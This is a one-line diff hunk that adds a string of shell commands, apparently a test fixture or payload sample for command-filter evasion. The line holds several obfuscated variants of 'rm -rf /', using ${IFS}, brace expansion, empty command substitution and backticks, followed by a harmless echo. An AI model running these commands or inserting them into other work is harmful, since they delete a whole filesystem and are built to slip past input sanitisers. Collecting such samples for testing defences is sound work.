@@ -1,0 +1,1 @@
+rm${IFS}-rf${IFS}/; {rm,-rf,/}; r$()m -rf /; r``m -rf /; echo {a,{b,c}} {1..3}
